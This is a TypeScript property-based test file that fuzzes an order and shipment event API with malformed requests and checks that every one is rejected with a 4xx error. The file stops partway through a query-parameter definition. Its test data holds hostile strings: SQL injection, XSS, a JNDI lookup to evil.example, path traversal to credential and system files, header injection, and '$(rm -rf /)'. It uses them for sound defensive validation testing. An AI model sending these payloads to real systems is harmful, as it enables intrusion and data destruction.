/**
 * Bad input at the API (issue "No event lost, none counted twice", part 6): property-based tests
 * (fast-check) send thousands of malformed requests to a real, isolated API
 * (`startDeployment({ workers: false })`) and check, for every one of them:
 * - the status is 4xx (never 2xx, never 5xx);
 * - the body is an `ApiError` (`error`, `message`), and a 400 carries `issues` that name a field
 *   and a rule; where the fault is known, one issue names the faulty field (or its parent);
 * - at the end nothing reached Kafka (the high-water marks of `<prefix>.orders`, `.shipments` and
 *   `.dead-letter` are unchanged) and the `audit_log` table is empty (no request audited).
 * Good requests sent last (the control) must be accepted and must move those marks: this proves
 * the checks can fail. The test prints `bad-input: <n> generated, <m> accepted`.
 *
 * Faults: valid events of all 12 types mutated by 1..3 faults (wrong JSON types, removed required
 * fields, unknown attributes, unknown types, bad/zone-less/impossible dates, bad UUIDs, injection
 * strings in ids, control characters and lone surrogates in text, huge strings, nested garbage,
 * arrays for objects, numbers out of range, NaN-like strings, prototype-poisoning keys); batches
 * with bad events among good ones; malformed JSON, wrong content types, oversize bodies; bad query
 * strings on the list and KPI routes; bad path ids.
 */
import { randomUUID } from 'node:crypto';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  apiSourceIssue,
  ALL_EVENT_TYPES,
  EVENT_TYPES,
  ORDER_STATUSES,
  SHIPMENT_STATUSES,
  topicNames,
  validateEvent,
  type ApiError,
  type EventType,
} from '../../contracts';
import { createKafka } from '../../runtime/kafka';
import { startDeployment, waitFor, type TestDeployment } from '../support/harness';

const BODY_LIMIT = 2 * 1024 * 1024; // server.ts BODY_LIMIT_BYTES
/** Requests sent at once inside one property run (bounded concurrency). */
const PARALLEL = 8;

let d: TestDeployment;
let marksBefore: Record<string, number>;

const stats = { generated: 0, accepted: 0, serverErrors: 0, byKind: new Map<string, number>() };

beforeAll(async () => {
  d = await startDeployment({ workers: false });
  marksBefore = await highWaterMarks();
});

afterAll(async () => {
  const kinds = [...stats.byKind.entries()].map(([k, n]) => `${k} ${n}`).join(', ');
  console.log(`bad-input: ${stats.generated} generated, ${stats.accepted} accepted`);
  console.log(`bad-input detail: ${stats.serverErrors} answered 5xx; by kind: ${kinds}`);
  await d?.close();
});

/** Sum of the high-water marks of each of the deployment's topics. */
async function highWaterMarks(): Promise<Record<string, number>> {
  const admin = createKafka(d.config, 'bad-input-test').admin();
  await admin.connect();
  try {
    const out: Record<string, number> = {};
    for (const topic of Object.values(topicNames(d.config.topicPrefix))) {
      // Right after topic creation the broker may still be electing leaders: retry briefly.
      const offsets = await waitFor(`offsets of ${topic}`, () => admin.fetchTopicOffsets(topic), 20_000);
      out[topic] = offsets.reduce((sum, p) => sum + Number(p.high), 0);
    }
    return out;
  } finally {
    await admin.disconnect();
  }
}

/** Audited requests (one `audit_log` row each) and the events they hold. */
async function audited(): Promise<{ requests: number; events: number }> {
  const { rows } = await d.core.pool.query<{ requests: number; events: number }>(
    'SELECT count(*)::int AS requests, coalesce(sum(event_count), 0)::int AS events FROM audit_log',
  );
  return rows[0]!;
}

// ------------------------------------------------------------------------------------------------
// Sending and checking
// ------------------------------------------------------------------------------------------------

interface BadRequest {
  kind: string;
  path: string;
  init?: RequestInit;
  /** Expected statuses (default: 400). */
  statuses?: number[];
  /** True when an issue's field points at (or above/below) one of the faults. */
  related?: (field: string) => boolean;
  /** Expected `index` of a rejected batch. */
  index?: number;
}

function describeRequest(r: BadRequest): string {
  const body = typeof r.init?.body === 'string' ? r.init.body : '';
  return `${r.kind} ${r.init?.method ?? 'GET'} ${r.path.slice(0, 300)} ${body.slice(0, 600)}`;
}

/** Sends one bad request and checks the answer; throws with the request on any violation. */
async function sendBad(r: BadRequest): Promise<void> {
  stats.generated++;
  stats.byKind.set(r.kind, (stats.byKind.get(r.kind) ?? 0) + 1);
  const res = await d.api(r.path, r.init);
  const text = await res.text();
  const fail = (why: string): never => {
    throw new Error(
      `${why}\n  request: ${describeRequest(r)}\n  answer: ${res.status} ${text.slice(0, 600)}`,
    );
  };
  if (res.status < 300) stats.accepted++;
  if (res.status >= 500) stats.serverErrors++;
  if (res.status < 400 || res.status >= 500) fail(`status ${res.status} is not 4xx`);
  if (!(r.statuses ?? [400]).includes(res.status))
    fail(`status ${res.status}, expected ${r.statuses ?? [400]}`);
  let body: ApiError;
  try {
    body = JSON.parse(text) as ApiError;
  } catch {
    return fail('body is not JSON');
  }
  if (typeof body.error !== 'string' || body.error === '' || typeof body.message !== 'string')
    fail('body is not an ApiError');
  if (res.status === 400) {
    const issues = body.issues;
    if (!Array.isArray(issues) || issues.length === 0) return fail('a 400 without issues');
    for (const i of issues) {
      if (typeof i.field !== 'string' || i.field === '' || typeof i.rule !== 'string' || i.rule === '')
        fail('an issue without field or rule');
      if (typeof i.message !== 'string' || i.message === '') fail('an issue without message');
    }
    if (r.related && !issues.some((i) => r.related!(i.field))) fail('no issue names the faulty field');
    if (r.index !== undefined && body.index !== r.index) fail(`index ${body.index}, expected ${r.index}`);
  }
}

async function sendAll(requests: BadRequest[]): Promise<void> {
  for (let i = 0; i < requests.length; i += PARALLEL) {
    await Promise.all(requests.slice(i, i + PARALLEL).map(sendBad));
  }
}

const postJson = (body: string, headers: Record<string, string> = {}): RequestInit => ({
  method: 'POST',
  body,
  headers,
});

// ------------------------------------------------------------------------------------------------
// Valid events (the starting point of every fault)
// ------------------------------------------------------------------------------------------------

const ID_RE = /^[A-Za-z0-9._:-]+$/;
const safeId = (max = 40) => fc.stringMatching(new RegExp(`^[A-Za-z0-9._:-]{1,${max}}$`));
const safeText = (max: number) =>
  fc.oneof(
    fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: Math.min(max, 40) }),
    fc.constantFrom(
      'Entregue ao destinatário',
      'São Paulo, SP',
      '配送中',
      'ok 👍',
      "O'Brien; DROP TABLE x",
      'a\nb\tc',
    ),
  );
/** Instants from 2000 to `max`, in any offset. */
const instantsUpTo = (max: Date) =>
  fc
    .tuple(
      fc.date({
        min: new Date('2000-01-01T00:00:00Z'),
        max,
        noInvalidDate: true,
      }),
      fc.integer({ min: -12 * 60, max: 14 * 60 }),
      fc.boolean(),
    )
    .map(([date, offset, millis]) => {
      const local = new Date(date.getTime() + offset * 60_000).toISOString();
      const base = millis ? local.slice(0, 23) : local.slice(0, 19);
      if (offset === 0) return `${base}Z`;
      const abs = Math.abs(offset);
      return `${base}${offset < 0 ? '-' : '+'}${pad(Math.floor(abs / 60))}:${pad(abs % 60)}`;
    });
/** Any instant (ETAs, promised times may be years ahead). */
const instantArb = instantsUpTo(new Date('2035-12-31T00:00:00Z'));
/** Event times: up to now (the API refuses one more than a day ahead, contracts/events.ts). */
const eventTimeArb = instantsUpTo(new Date());
const dateArb = fc
  .date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date('2035-12-31T00:00:00Z'), noInvalidDate: true })
  .map((dt) => dt.toISOString().slice(0, 10));
const zoneArb = fc.constantFrom(
  'America/Sao_Paulo',
  'UTC',
  'Europe/Berlin',
  'Asia/Tokyo',
  'America/New_York',
);
const line = (minQty: number) =>
  fc.record({ sku: safeText(64), quantity: fc.integer({ min: minQty, max: 1_000_000 }) });

const dataArbs: Record<EventType, fc.Arbitrary<Record<string, unknown>>> = {
  [EVENT_TYPES.orderCreated]: fc.record({
    customerId: safeId(),
    warehouseId: safeId(),
    siteTimeZone: zoneArb,
    promisedDate: dateArb,
    lines: fc.array(line(1), { minLength: 1, maxLength: 4 }),
  }),
  [EVENT_TYPES.orderApproved]: fc.record({ approvedBy: safeText(128) }, { requiredKeys: [] }),
  [EVENT_TYPES.orderPicked]: fc.record({ pickerId: safeText(128) }, { requiredKeys: [] }),
  [EVENT_TYPES.orderPacked]: fc.record(
    { packageCount: fc.integer({ min: 1, max: 10_000 }) },
    { requiredKeys: [] },
  ),
  [EVENT_TYPES.orderShipped]: fc.record(
    { shipmentId: safeId(), carrier: safeText(64) },
    { requiredKeys: ['shipmentId'] },
  ),
  [EVENT_TYPES.orderDelivered]: fc.record({ lines: fc.array(line(0), { minLength: 0, maxLength: 4 }) }),
  [EVENT_TYPES.orderCancelled]: fc.record({ reason: safeText(500) }),
  [EVENT_TYPES.shipmentCreated]: fc.record(
    {
      orderId: safeId(),
      carrier: safeText(64),
      trackingNumber: safeText(64),
      origin: safeText(200),
      destination: safeText(200),
      promisedDate: dateArb,
    },
    { requiredKeys: ['carrier', 'trackingNumber'] },
  ),
  [EVENT_TYPES.shipmentCheckpoint]: fc.record(
    { status: fc.constantFrom(...SHIPMENT_STATUSES), location: safeText(200), message: safeText(1000) },
    { requiredKeys: ['status'] },
  ),
  [EVENT_TYPES.shipmentEtaUpdated]: fc.record({ eta: instantArb }),
  [EVENT_TYPES.shipmentException]: fc.record(
    { reasonCode: safeText(64), message: safeText(1000) },
    { requiredKeys: ['reasonCode'] },
  ),
  [EVENT_TYPES.shipmentDelivered]: fc.record(
    { location: safeText(200), signedBy: safeText(128) },
    { requiredKeys: [] },
  ),
};

type Json = Record<string, unknown>;

const subjectArb = safeId();
const drillArb = safeId(64);
const sourceArb = safeText(512);
const traceparentArb = fc.stringMatching(/^00-[0-9a-f]{32}-[0-9a-f]{16}-0[01]$/);

/** A valid event of any of the 12 types (arbitraries built once: building them is the slow part). */
const validEvent: fc.Arbitrary<Json> = fc.oneof(
  ...ALL_EVENT_TYPES.map((type) =>
    fc.record(
      {
        specversion: fc.constant('1.0'),
        id: fc.uuid(),
        source: sourceArb,
        type: fc.constant(type),
        subject: subjectArb,
        time: eventTimeArb,
        data: dataArbs[type],
        datacontenttype: fc.constant('application/json'),
        drillid: drillArb,
        traceparent: traceparentArb,
      },
      { requiredKeys: ['specversion', 'id', 'source', 'type', 'subject', 'time', 'data'] },
    ),
  ),
);

// ------------------------------------------------------------------------------------------------
// Faults
// ------------------------------------------------------------------------------------------------

type Path = (string | number)[];
type Role =
  | 'specversion'
  | 'uuid'
  | 'text'
  | 'type'
  | 'id'
  | 'instant'
  | 'date'
  | 'ctype'
  | 'traceparent'
  | 'data'
  | 'zone'
  | 'lines'
  | 'int'
  | 'enum';

interface FieldSpec {
  path: Path;
  role: Role;
  required: boolean;
  max?: number;
  min?: number;
}

const ENVELOPE: Record<string, Omit<FieldSpec, 'path'>> = {
  specversion: { role: 'specversion', required: true },
  id: { role: 'uuid', required: true },
  source: { role: 'text', required: true, max: 512 },
  type: { role: 'type', required: true },
  subject: { role: 'id', required: true, max: 128 },
  time: { role: 'instant', required: true },
  datacontenttype: { role: 'ctype', required: false },
  drillid: { role: 'id', required: false, max: 64 },
  traceparent: { role: 'traceparent', required: false },
  data: { role: 'data', required: true },
};
const REQUIRED_DATA: Partial<Record<EventType, string[]>> = {
  [EVENT_TYPES.orderCreated]: ['customerId', 'warehouseId', 'siteTimeZone', 'promisedDate', 'lines'],
  [EVENT_TYPES.orderShipped]: ['shipmentId'],
  [EVENT_TYPES.orderDelivered]: ['lines'],
  [EVENT_TYPES.orderCancelled]: ['reason'],
  // orderId, origin, destination and promisedDate are optional (carrier feeds often lack them).
  [EVENT_TYPES.shipmentCreated]: ['carrier', 'trackingNumber'],
  [EVENT_TYPES.shipmentCheckpoint]: ['status'],
  [EVENT_TYPES.shipmentEtaUpdated]: ['eta'],
  [EVENT_TYPES.shipmentException]: ['reasonCode'],
};
const DATA_FIELDS: Record<string, { role: Role; max?: number; min?: number }> = {
  customerId: { role: 'id', max: 128 },
  warehouseId: { role: 'id', max: 128 },
  shipmentId: { role: 'id', max: 128 },
  orderId: { role: 'id', max: 128 },
  siteTimeZone: { role: 'zone' },
  promisedDate: { role: 'date' },
  eta: { role: 'instant' },
  status: { role: 'enum' },
  lines: { role: 'lines' },
  packageCount: { role: 'int', min: 1, max: 10_000 },
  approvedBy: { role: 'text', max: 128 },
  pickerId: { role: 'text', max: 128 },
  signedBy: { role: 'text', max: 128 },
  carrier: { role: 'text', max: 64 },
  trackingNumber: { role: 'text', max: 64 },
  reasonCode: { role: 'text', max: 64 },
  origin: { role: 'text', max: 200 },
  destination: { role: 'text', max: 200 },
  location: { role: 'text', max: 200 },
  reason: { role: 'text', max: 500 },
  message: { role: 'text', max: 1000 },
};
const ROOT_KEYS = Object.keys(ENVELOPE);
const DATA_KEYS = [...Object.keys(DATA_FIELDS), 'sku', 'quantity'];

/** Every field of a valid event, with what it must be. */
function fieldSpecs(event: Json): FieldSpec[] {
  const specs: FieldSpec[] = Object.keys(event).map((k) => ({ path: [k], ...ENVELOPE[k]! }));
  const type = event.type as EventType;
  const data = event.data as Json;
  for (const [key, value] of Object.entries(data)) {
    const spec = DATA_FIELDS[key]!;
    specs.push({ path: ['data', key], ...spec, required: (REQUIRED_DATA[type] ?? []).includes(key) });
    if (key === 'lines') {
      (value as Json[]).forEach((_, i) => {
        const delivered = type === EVENT_TYPES.orderDelivered;
        specs.push({ path: ['data', 'lines', i, 'sku'], role: 'text', required: true, max: 64 });
        specs.push({
          path: ['data', 'lines', i, 'quantity'],
          role: 'int',
          required: true,
          min: delivered ? 0 : 1,
          max: 1_000_000,
        });
      });
    }
  }
  return specs;
}

interface Fault {
  label: string;
  op: 'set' | 'delete' | 'extra' | 'proto';
  path: Path;
  value?: unknown;
  key?: string;
}

const INJECTIONS = [
  "' OR '1'='1",
  "o-1'; DROP TABLE orders; --",
  '1; SELECT pg_sleep(10)--',
  "o-1' UNION SELECT * FROM audit_log--",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '${jndi:ldap://evil.example/x}',
  '{{7*7}}',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'a/b',
  'o-1%00',
  'o-1\u0000',
  'o-1\r\nX-Injected: 1',
  '$(rm -rf /)',
  '`id`',
  'a|b',
  '*',
  'o 1',
  '\u202Eevil',
  'ordér',
  '订单-1',
  '😀',
  'o-1?x=1',
  'o-1#x',
  'lone\ud800',
];
const CONTROL_TEXTS = [
  'bad\u0000reason',
  '\u0000',
  'bell\u0007',
  'ansi \u001b[31mred',
  'del\u007f',
  'nel\u0085',
  'lone \ud800 high',
  'lone \udfff low',
  'back\bspace',
];
const BAD_INSTANTS = [
  'yesterday',
  'now',
  '',
  '2024-03-01',
  '2024-03-01T12:00:00',
  '2024-03-01T12:00:00.000',
  '2024-03-01 12:00:00Z',
  '2024-03-01T12:00Z',
  '2024-03-01T12:00:00+0300',
  '2024-03-01T12:00:00+03',
  '2024-03-01T12:00:00 +03:00',
  '2024-02-30T10:00:00Z',
  '2023-02-29T10:00:00Z',
  '2024-04-31T10:00:00Z',
  '2024-13-01T00:00:00Z',
  '2024-01-01T24:00:00Z',
  '2024-01-01T23:60:00Z',
  '2024-12-31T23:59:60Z',
  '2024-01-01T10:00:00+24:00',
  '2024-01-01T10:00:00+14:60',
  '2024-01-01t10:00:00z',
  '0000-01-01T00:00:00Z',
  '0001-01-01T00:00:00+14:00',
  '+002024-01-01T00:00:00Z',
  '2024-01-01T10:00:00,5Z',
  'Fri, 01 Mar 2024 12:00:00 GMT',
  '1709294400',
  '2024-W09-5T12:00:00Z',
  ' 2024-03-01T12:00:00Z',
  '2024-03-01T12:00:00Z ',
  '2024-03-01T12:00:00Z\u0000',
  'NaN',
  'Invalid Date',
];
const BAD_DATES = [
  '2024-02-30',
  '2023-02-29',
  '2024-04-31',
  '2024-13-01',
  '2024-00-10',
  '2024-01-00',
  '2024-01-32',
  '0000-01-01',
  '2024-1-1',
  '20240101',
  '2024/01/01',
  '01-02-2024',
  '2024-01',
  '2024-01-01T00:00:00Z',
  ' 2024-01-01',
  '2024-01-01 ',
  '',
  'tomorrow',
  '+2024-01-01',
  'NaN',
  "2024-01-01' OR '1'='1",
];
const BAD_UUIDS = [
  'not-a-uuid',
  '',
  '3f1c2a4e8b7d4c2a9e1f0a1b2c3d4e5f',
  '{3f1c2a4e-8b7d-4c2a-9e1f-0a1b2c3d4e5f}',
  'urn:uuid:3f1c2a4e-8b7d-4c2a-9e1f-0a1b2c3d4e5f',
  '3f1c2a4e-8b7d-4c2a-9e1f-0a1b2c3d4e5',
  '3f1c2a4e-8b7d-4c2a-9e1f-0a1b2c3d4e5f0',
  "3f1c2a4e-8b7d-4c2a-9e1f-0a1b2c3d4e5f' OR '1'='1",
  ' 3f1c2a4e-8b7d-4c2a-9e1f-0a1b2c3d4e5f',
];

const pad = (n: number, width = 2) => String(n).padStart(width, '0');
const daysIn = (y: number, m: number) => new Date(Date.UTC(y, m, 0)).getUTCDate();

/** A date `YYYY-MM-DD` with one component out of range (month 0/13+, day 0/past the month's end). */
const impossibleDate = fc
  .tuple(fc.integer({ min: 1970, max: 2100 }), fc.integer({ min: 1, max: 12 }), fc.nat(2), fc.nat(86))
  .map(([y, m, which, n]) => {
    if (which === 0) return `${y}-${pad(n % 2 === 0 ? 0 : 13 + n)}-10`;
    if (which === 1) return `${y}-${pad(m)}-00`;
    return `${y}-${pad(m)}-${pad(daysIn(y, m) + 1 + (n % (99 - daysIn(y, m))))}`;
  });
/** A date-time with one impossible component, or a valid local date-time without a zone. */
const impossibleInstant = fc.oneof(
  fc
    .tuple(dateArb, fc.nat(3), fc.nat(39))
    .map(([day, which, n]) =>
      which === 0
        ? `${day}T${pad(24 + n)}:00:00Z`
        : which === 1
          ? `${day}T10:${pad(60 + n)}:00Z`
          : which === 2
            ? `${day}T10:00:${pad(60 + n)}Z`
            : `${day}T10:00:00+${pad(24 + n)}:00`,
    ),
  impossibleDate.map((day) => `${day}T10:00:00Z`),
  instantArb.map((t) => t.replace(/(Z|[+-]\d\d:\d\d)$/, '')),
);
const badUuid = fc.oneof(
  fc.constantFrom(...BAD_UUIDS),
  fc.tuple(fc.uuid(), fc.nat(35), fc.constantFrom('g', 'z', ' ', '-', '\u0000', 'é')).map(([u, i, c]) => {
    const at = u[i] === '-' && c === '-' ? (i + 1) % 36 : i;
    return u.slice(0, at) + c + u.slice(at + 1);
  }),
  fc.tuple(fc.uuid(), fc.integer({ min: 1, max: 35 })).map(([u, n]) => u.slice(0, 36 - n)),
  fc.uuid().map((u) => u.replace(/-/g, '')),
);
const tooLong = (max: number, char = 'a', over = 20_000) =>
  fc.integer({ min: max + 1, max: max + over }).map((n) => char.repeat(n));
/** An invalid entity id; `over` bounds the too-long ones (URLs must stay under Node's 16 KiB header limit). */
const badId = (max: number, over = 20_000) =>
  fc.oneof(
    fc.constantFrom(...INJECTIONS),
    fc.string({ unit: 'binary', minLength: 1, maxLength: 30 }).filter((s) => !ID_RE.test(s)),
    tooLong(max, 'a', over),
    fc.constant(''),
  );
const badText = (max: number) =>
  fc.oneof(
    fc.constantFrom(...CONTROL_TEXTS),
    fc
      .tuple(
        safeText(30),
        fc.constantFrom('\u0000', '\u0001', '\u001f', '\u007f', '\u0090', '\ud83d', '\udc00'),
      )
      .map(([s, c]) => `${s}${c}${s}`)
      .filter((s) => s.length <= max),
    tooLong(max, 'x'),
    fc.constant(''),
  );
const badInt = (min: number, max: number) =>
  fc.oneof(
    fc.integer({ min: min - 1_000_000, max: min - 1 }),
    fc.integer({ min: max + 1, max: max + 1_000_000_000 }),
    fc.double({ min, max, noNaN: true, noDefaultInfinity: true }).filter((v) => !Number.isInteger(v)),
    fc.constantFrom(1e300, -1e300, Number.MAX_SAFE_INTEGER + 2, -(2 ** 53)),
  );
const numericStrings = fc.constantFrom(
  'NaN',
  'Infinity',
  '-Infinity',
  '1',
  '1e3',
  '0x10',
  '',
  ' 1 ',
  'null',
  'undefined',
);

/** A JSON value of any type but `kind` (nested garbage included), without prototype-poisoning keys. */
function notOfKind(kind: 'string' | 'number' | 'array' | 'object'): fc.Arbitrary<unknown> {
  return memo(`notOfKind:${kind}`, () => buildNotOfKind(kind))!;
}

function buildNotOfKind(kind: 'string' | 'number' | 'array' | 'object'): fc.Arbitrary<unknown> {
  const isKind = (v: unknown) =>
    kind === 'array'
      ? Array.isArray(v)
      : kind === 'object'
        ? typeof v === 'object' && v !== null && !Array.isArray(v)
        : typeof v === kind;
  const garbage = fc.oneof(
    fc.jsonValue({ maxDepth: 4 }),
    fc.constantFrom<unknown>(null, true, false, 0, -1, 3.14, [], {}, [[[[]]]], { a: { b: { c: [1, 'x'] } } }),
    kind === 'number' ? numericStrings : fc.constant(null),
  );
  return garbage.filter((v) => !isKind(v) && noProtoKeys(v));
}

const noProtoKeys = (v: unknown) => !/"(__proto__|constructor|prototype)"/.test(JSON.stringify(v) ?? '');
const cleanJson = fc.jsonValue({ maxDepth: 2 }).filter(noProtoKeys);

const kindOf = (role: Role): 'string' | 'number' | 'array' | 'object' =>
  role === 'int' ? 'number' : role === 'lines' ? 'array' : role === 'data' ? 'object' : 'string';

const arbitraries = new Map<string, fc.Arbitrary<unknown> | null>();
/** Builds an arbitrary once per key (faults are chosen per event, their arbitraries need not be). */
function memo<T>(key: string, build: () => fc.Arbitrary<T> | null): fc.Arbitrary<T> | null {
  if (!arbitraries.has(key)) arbitraries.set(key, build());
  return arbitraries.get(key) as fc.Arbitrary<T> | null;
}

/** A value of the right JSON type that breaks the field's rule (or nothing, if every value is fine). */
function badValueFor(spec: FieldSpec, event: Json): fc.Arbitrary<unknown> | null {
  return memo(`${spec.role}:${spec.max}:${spec.min}:${event.type as string}`, () =>
    buildBadValue(spec, event),
  );
}

function buildBadValue(spec: FieldSpec, event: Json): fc.Arbitrary<unknown> | null {
  switch (spec.role) {
    case 'specversion':
      return fc.constantFrom('1.0.2', '0.3', '1', '2.0', ' 1.0', '1.0 ', '');
    case 'uuid':
      return badUuid;
    case 'text':
      return badText(spec.max!);
    case 'type':
      return fc.oneof(
        fc.constantFrom(
          'sct.order.teleported.v1',
          'sct.order.created.v2',
          'SCT.ORDER.CREATED.V1',
          'sct.order.created',
          'order.created',
          '',
          `${event.type as string} `,
          `${event.type as string}\u0000`,
          'com.example.object.created.v1',
          "sct.order.created.v1' OR '1'='1",
        ),
        fc.string({ maxLength: 40 }).filter((s) => !(ALL_EVENT_TYPES as string[]).includes(s)),
      );
    case 'id':
      return badId(spec.max!);
    case 'instant':
      return fc.oneof(fc.constantFrom(...BAD_INSTANTS), impossibleInstant);
    case 'date':
      return fc.oneof(fc.constantFrom(...BAD_DATES), impossibleDate);
    case 'ctype':
      return fc.constantFrom('text/plain', 'application/xml', 'application/json; charset=utf-8', 'json', '');
    case 'traceparent':
      return fc.constantFrom(
        '00-xyz',
        '00-0AF7651916CD43DD8448EB211C80319C-B7AD6B7169203331-01',
        '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331',
        '',
        'garbage',
      );
    case 'zone':
      return fc.constantFrom(
        'Mars/Olympus',
        'America/Sao Paulo',
        'UTC+3',
        'GMT+25',
        '',
        '../../etc/localtime',
        'x'.repeat(65),
      );
    case 'enum':
      return fc.oneof(
        fc.constantFrom('lost', 'IN_TRANSIT', 'in transit', 'delivered ', '', "delivered' OR '1'='1"),
        fc.string({ maxLength: 20 }).filter((s) => !(SHIPMENT_STATUSES as readonly string[]).includes(s)),
      );
    case 'int':
      return badInt(spec.min!, spec.max!);
    case 'lines': {
      const tooMany = Array.from({ length: 501 }, (_, i) => ({ sku: `S${i}`, quantity: 1 }));
      return event.type === EVENT_TYPES.orderCreated ? fc.constantFrom([], tooMany) : fc.constant(tooMany);
    }
    case 'data':
      return null;
  }
}

const EXTRA_ROOT_KEYS = [
  'dataschema',
  'partitionkey',
  'sequence',
  'Id',
  'TYPE',
  'data_base64',
  'extra',
  '',
  'time ',
];
const EXTRA_DATA_KEYS = ['customerID', 'Lines', 'notes', 'extra', '', 'quantity ', 'sku2', 'status_'];

/** One fault for a valid event: chosen among everything that can be broken in it. */
function faultFor(event: Json): fc.Arbitrary<Fault> {
  const specs = fieldSpecs(event);
  const objects: Path[] = [[], ['data']];
  const lines = (event.data as Json).lines;
  if (Array.isArray(lines)) lines.forEach((_, i) => objects.push(['data', 'lines', i]));
  const pick = <T>(items: T[]) => fc.constantFrom(...items);
  const options: fc.Arbitrary<Fault>[] = [
    pick(specs).chain((s) =>
      notOfKind(kindOf(s.role)).map((value): Fault => ({
        label: 'wrong_type',
        op: 'set',
        path: s.path,
        value,
      })),
    ),
    pick(specs.filter((s) => badValueFor(s, event) !== null)).chain((s) =>
      badValueFor(s, event)!.map((value): Fault => ({
        label: `bad_${s.role}`,
        op: 'set',
        path: s.path,
        value,
      })),
    ),
    pick(specs.filter((s) => s.required)).map((s): Fault => ({
      label: 'missing_field',
      op: 'delete',
      path: s.path,
    })),
    pick(objects).chain((path) =>
      fc
        .oneof(
          fc.constantFrom(...(path.length === 0 ? EXTRA_ROOT_KEYS : EXTRA_DATA_KEYS)),
          fc.string({ maxLength: 12 }).map((s) => `x-${s}`),
        )
        .filter((key) => !(path.length === 0 ? ROOT_KEYS : DATA_KEYS).includes(key))
        .chain((key) =>
          cleanJson.map((value): Fault => ({ label: 'unknown_attribute', op: 'extra', path, key, value })),
        ),
    ),
    pick(objects.filter((p) => p.length > 0)).map((path): Fault => ({
      label: 'array_for_object',
      op: 'set',
      path,
      value: 'WRAP',
    })),
    fc
      .tuple(pick(objects), fc.constantFrom('__proto__', 'constructor'))
      .map(([path, key]): Fault => ({ label: 'prototype_key', op: 'proto', path, key })),
  ];
  return fc.oneof(...options);
}

function containerAt(root: unknown, path: Path): Record<string | number, unknown> | null {
  let at: unknown = root;
  for (const key of path) {
    if (typeof at !== 'object' || at === null) return null;
    at = (at as Record<string | number, unknown>)[key];
  }
  return typeof at === 'object' && at !== null ? (at as Record<string | number, unknown>) : null;
}

/** Applies the faults to a copy of the event; returns it and the faults that took effect. */
function applyFaults(event: Json, faults: Fault[]): { body: Json; applied: Fault[] } {
  const body = structuredClone(event);
  const applied: Fault[] = [];
  for (const f of faults) {
    if (f.op === 'extra' || f.op === 'proto') {
      const target = containerAt(body, f.path);
      if (!target || Array.isArray(target)) continue;
      const value =
        f.op === 'proto'
          ? f.key === '__proto__'
            ? { polluted: true }
            : { prototype: { polluted: true } }
          : structuredClone(f.value);
      Object.defineProperty(target, f.key!, { value, enumerable: true, configurable: true, writable: true });
    } else {
      const parent = containerAt(body, f.path.slice(0, -1));
      const key = f.path.at(-1)!;
      if (!parent || !(key in parent)) continue;
      if (f.op === 'delete') delete parent[key];
      // Values are copied: constants (such as the 501-line list) are shared between generated cases.
      else parent[key] = f.value === 'WRAP' ? [parent[key]] : structuredClone(f.value);
    }
    applied.push(f);
  }
  return { body, applied };
}

const dotted = (path: Path) => path.map(String).join('.');

/** An issue field is "related" when it is the faulty field, one of its parents, or inside it. */
function relatedTo(applied: Fault[]): (field: string) => boolean {
  return (field) =>
    applied.some((f) => {
      if (f.op === 'proto') return field === '(body)' || field === '(root)';
      const target = dotted(f.path);
      // An unknown key is named itself (`extra`, `data.extra`), not the object around it.
      if (f.op === 'extra' && field === [...f.path, f.key].map(String).join('.')) return true;
      if (target === '') return field === '(root)';
      if (field === '(root)') return f.path.length === 1 || f.op === 'extra';
      return field === target || target.startsWith(`${field}.`) || field.startsWith(`${target}.`);
    });
}

/** A valid event broken by 1..3 faults, with the faults that took effect. */
const faultyEvent = validEvent.chain((event) =>
  fc.array(faultFor(event), { minLength: 1, maxLength: 3 }).map((faults) => applyFaults(event, faults)),
);
/** The same without prototype-poisoning keys (those fail the whole body before any event is looked at). */
const faultyEventInBatch = faultyEvent.filter(({ applied }) => applied.every((f) => f.op !== 'proto'));

// ------------------------------------------------------------------------------------------------
// Query strings and path ids
// ------------------------------------------------------------------------------------------------

type Query = [string, string][];

const ORDER_PARAMS = ['status', 'from', 'to', 'q', 'sort', 'order', 'page', 'pageSize', 'includeDrills'];
const KPI_PARAMS = ['from', 'to', 'includeDrills'];

const orderedRange = fc.tuple(dateArb, dateArb).map(([a, b]): [string, string] => (a <= b ? [a, b] : [b, a]));

const validOrderQuery: fc.Arbitrary<Query> = fc
  .record(
    {
      status: fc.constantFrom(...ORDER_STATUSES),
      range: orderedRange,
      q: safeId(20),
      sort: fc.constantFrom('createdAt', 'promisedDate', 'status', 'lastEventTime'),
      order: fc.constantFrom('asc', 'desc'),
      page: fc.integer({ min: 1, max: 100_000 }).map(String),
      pageSize: fc.integer({ min: 1, max: 500 }).map(String),
      includeDrills: fc.constantFrom('true', 'false'),
    },
    { requiredKeys: [] },
  )
  .map(({ range, ...rest }) => {
    const q: Query = Object.entries(rest).map(([k, v]) => [k, v]);
    if (range) q.push(['from', range[0]], ['to', range[1]]);
    return q;
  });
const validKpiQuery: fc.Arbitrary<Query> = fc
  .record({ range: orderedRange, includeDrills: fc.constantFrom('true', 'false') }, { requiredKeys: [] })
  .map(({ range, includeDrills }) => {
    const q: Query = includeDrills ? [['includeDrills', includeDrills]] : [];
    if (range) q.push(['from', range[0]], ['to', range[1]]);
    return q;
  });

const INJECTION_VALUES = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.string({ unit: 'binary', maxLength: 30 }),
);
const badParam: Record<string, fc.Arbitrary<string>> = {
  status: fc.oneof(
    fc.constantFrom('CREATED', 'created ', '', 'unknown', "created' OR '1'='1"),
    INJECTION_VALUES.filter((s) => !(ORDER_STATUSES as readonly string[]).includes(s)),
  ),
  from: fc.oneof(fc.constantFrom(...BAD_DATES), impossibleDate),
  to: fc.oneof(fc.constantFrom(...BAD_DATES), impossibleDate),
  q: badId(128, 4000),
  sort: fc.oneof(
    fc.constantFrom(
      'created_at',
      'createdAt; DROP TABLE orders',
      'createdAt desc',
      '1',
      '',
      'CREATEDAT',
      'id',
    ),
    INJECTION_VALUES.filter((s) => !['createdAt', 'promisedDate', 'status', 'lastEventTime'].includes(s)),
  ),
  order: fc.oneof(
    fc.constantFrom('ASC', 'descending', "desc'--", '', 'desc ', '1'),
    INJECTION_VALUES.filter((s) => !['asc', 'desc'].includes(s)),
  ),
